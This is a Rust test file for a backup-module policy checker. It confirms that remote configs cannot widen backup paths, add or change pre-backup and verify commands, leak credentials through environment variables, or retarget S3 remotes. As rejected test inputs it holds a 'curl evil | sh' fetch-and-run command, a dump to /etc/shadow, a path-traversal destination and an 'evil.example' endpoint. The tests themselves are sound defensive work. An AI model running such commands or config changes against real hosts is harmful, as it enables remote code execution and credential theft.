//! The policy's rules on remote backup configs: sources and destinations, a remote copy's
//! path, pre-backup steps (command and environment) and S3 remotes.

use super::*;

#[test]
fn backup_sources_and_destinations_are_checked_separately() {
    let file = "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"app\"\n\
                sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n";
    let bk = |src: &str, dest: &str| {
        module(&format!(
            "type = \"backup\"\nname = \"bk\"\n[[jobs]]\nname = \"app\"\n\
             sources = [\"{src}\"]\ndestination = \"{dest}\"\n"
        ))
    };
    let strict = host("", file);
    assert!(strict
        .check_module(
            "bk",
            "backup",
            &bk("/var/lib/app", "/var/backups/app"),
            Surface::Command,
            &none
        )
        .is_empty());
    let v = strict.check_module("bk", "backup", &bk("/etc", "/"), Surface::Command, &none);
    assert_eq!(
        rules(&v),
        [
            ("policy.backup_sources", "jobs[0].sources[0]"),
            ("policy.backup_destinations", "jobs[0].destination")
        ]
    );
    let listed = host(
        "backup_sources = [\"/srv\"]\nbackup_destinations = [\"/mnt/backups\"]",
        file,
    );
    assert!(listed
        .check_module(
            "bk",
            "backup",
            &bk("/srv/data", "/mnt/backups/x"),
            Surface::Command,
            &none
        )
        .is_empty());
}

#[test]
fn a_remote_copy_path_is_a_destination_for_the_policy() {
    let file = "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"app\"\n\
                sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
                [modules.jobs.remote]\ntype = \"path\"\npath = \"/mnt/nas/app\"\n";
    let bk = |remote: &str| {
        module(&format!(
            "type = \"backup\"\nname = \"bk\"\n[[jobs]]\nname = \"app\"\n\
             sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
             [jobs.remote]\ntype = \"path\"\npath = \"{remote}\"\n"
        ))
    };
    let strict = host("", file);
    for (remote, ok) in [
        ("/mnt/nas/app", true),
        ("/mnt/nas/app/sub", true),
        ("/etc", false),
        ("/mnt/nas/../../etc", false),
    ] {
        let v = strict.check_module("bk", "backup", &bk(remote), Surface::Command, &none);
        if ok {
            assert!(v.is_empty(), "{remote}: {v:?}");
        } else {
            assert_eq!(
                rules(&v),
                [("policy.backup_destinations", "jobs[0].remote.path")],
                "{remote}"
            );
        }
    }
    let listed = host("backup_destinations = [\"/srv/copies\"]", file);
    assert!(listed
        .check_module(
            "bk",
            "backup",
            &bk("/srv/copies/app"),
            Surface::Admin,
            &none
        )
        .is_empty());
}

#[test]
fn pre_backup_commands_are_never_added_or_changed_remotely() {
    let job = |cmd: &str| {
        format!(
            "[[jobs]]\nname = \"pg\"\nsources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
             [jobs.pre_backup]\ncommand = [{cmd}]\noutput = \"app.dump\"\n"
        )
    };
    let dump = "\"/usr/bin/pg_dump\", \"-f\", \"{output}\"";
    let file = format!(
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n{}",
        job(dump)
            .replace("[[jobs]]", "[[modules.jobs]]")
            .replace("[jobs.", "[modules.jobs.")
    );
    let remote = |cmd: &str| module(&format!("type = \"backup\"\nname = \"bk\"\n{}", job(cmd)));
    // Every allowance the policy has, and both surfaces: none lets a new command in.
    let open = host(
        "allow_kind_change = true\nallow_command_probes = true\nbackup_sources = [\"/\"]\n\
         backup_destinations = [\"/\"]",
        &file,
    );
    for surface in [Surface::Command, Surface::Admin] {
        assert!(open
            .check_module("bk", "backup", &remote(dump), surface, &none)
            .is_empty());
        for cmd in [
            "\"/bin/sh\", \"-c\", \"curl evil | sh\"",
            "\"/usr/bin/pg_dump\", \"-f\", \"/etc/shadow\"",
        ] {
            let v = open.check_module("bk", "backup", &remote(cmd), surface, &none);
            assert_eq!(
                rules(&v),
                [("pre_backup commands", "jobs[0].pre_backup.command")],
                "{cmd}"
            );
        }
    }
    // The file's command with more of the agent's environment (its credentials): refused.
    let leaky = module(&format!(
        "type = \"backup\"\nname = \"bk\"\n{}pass_env = [\"AWS_SECRET_ACCESS_KEY\"]\n",
        job(dump)
    ));
    for surface in [Surface::Command, Surface::Admin] {
        let v = open.check_module("bk", "backup", &leaky, surface, &none);
        assert_eq!(
            rules(&v),
            [("pre_backup commands", "jobs[0].pre_backup.pass_env")]
        );
    }
    // A file without any step: a remote config may not add one.
    let plain = host(
        "",
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"pg\"\n\
         sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n",
    );
    let v = plain.check_module("bk", "backup", &remote(dump), Surface::Command, &none);
    assert_eq!(
        rules(&v),
        [("pre_backup commands", "jobs[0].pre_backup.command")]
    );
}

#[test]
fn s3_remotes_are_never_added_or_changed_remotely() {
    let s3 =
        "type = \"s3\"\nbucket = \"backups\"\nprefix = \"db-01\"\nendpoint = \"https://s3.lan\"\n";
    let file = format!(
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"app\"\n\
         sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
         [modules.jobs.remote]\n{s3}"
    );
    let bk = |remote: &str| {
        module(&format!(
            "type = \"backup\"\nname = \"bk\"\n[[jobs]]\nname = \"app\"\n\
             sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
             [jobs.remote]\n{remote}"
        ))
    };
    // Even the loosest policy: a file S3 remote does not open every path, and no other
    // bucket, prefix or endpoint is accepted from a remote surface.
    let open = host(
        "backup_sources = [\"/\"]\nbackup_destinations = [\"/\"]",
        &file,
    );
    let strict = host("", &file);
    for surface in [Surface::Command, Surface::Admin] {
        let same = format!("{s3}reconcile_every = \"5m\"\n");
        assert!(
            strict
                .check_module("bk", "backup", &bk(&same), surface, &none)
                .is_empty(),
            "the file's own S3 remote is accepted"
        );
        for other in [
            s3.replace("backups", "elsewhere"),
            s3.replace("db-01", "db-02"),
            s3.replace("https://s3.lan", "https://evil.example"),
            format!("{s3}region = \"eu-west-1\"\n"),
            format!("{s3}allow_http = true\n"),
        ] {
            for h in [&strict, &open] {
                let v = h.check_module("bk", "backup", &bk(&other), surface, &none);
                assert_eq!(rules(&v), [("s3 remotes", "jobs[0].remote")], "{other}");
            }
        }
    }
    // The S3 remote's empty `path` is no destination: a path remote stays checked.
    let v = strict.check_module(
        "bk",
        "backup",
        &bk("type = \"path\"\npath = \"/etc\"\n"),
        Surface::Command,
        &none,
    );
    assert_eq!(
        rules(&v),
        [("policy.backup_destinations", "jobs[0].remote.path")]
    );
}

#[test]
fn verify_check_commands_are_never_added_or_changed_remotely() {
    let job = |check: &str| {
        format!(
            "[[jobs]]\nname = \"pg\"\nsources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n\
             verify_restore = \"weekly\"\n{check}"
        )
    };
    let check = |cmd: &str| format!("[jobs.verify_check]\ncommand = [{cmd}]\n");
    let ok = "\"/usr/local/bin/check-dump\", \"app.dump\"";
    let file = format!(
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n{}",
        job(&check(ok))
            .replace("[[jobs]]", "[[modules.jobs]]")
            .replace("[jobs.", "[modules.jobs.")
    );
    let remote = |c: &str| module(&format!("type = \"backup\"\nname = \"bk\"\n{}", job(c)));
    let open = host(
        "allow_kind_change = true\nallow_command_probes = true\nbackup_sources = [\"/\"]\n\
         backup_destinations = [\"/\"]",
        &file,
    );
    for surface in [Surface::Command, Surface::Admin] {
        // Repeating the file's check, or dropping it, is fine.
        for same in [check(ok), String::new()] {
            assert!(open
                .check_module("bk", "backup", &remote(&same), surface, &none)
                .is_empty());
        }
        let v = open.check_module(
            "bk",
            "backup",
            &remote(&check("\"/bin/sh\", \"-c\", \"curl evil | sh\"")),
            surface,
            &none,
        );
        assert_eq!(
            rules(&v),
            [("verify_check commands", "jobs[0].verify_check.command")]
        );
    }
    // A file without a check: a remote config may not add one.
    let plain = host(
        "",
        "[[modules]]\ntype = \"backup\"\nname = \"bk\"\n[[modules.jobs]]\nname = \"pg\"\n\
         sources = [\"/var/lib/app\"]\ndestination = \"/var/backups/app\"\n",
    );
    let v = plain.check_module("bk", "backup", &remote(&check(ok)), Surface::Command, &none);
    assert_eq!(
        rules(&v),
        [("verify_check commands", "jobs[0].verify_check.command")]
    );
}
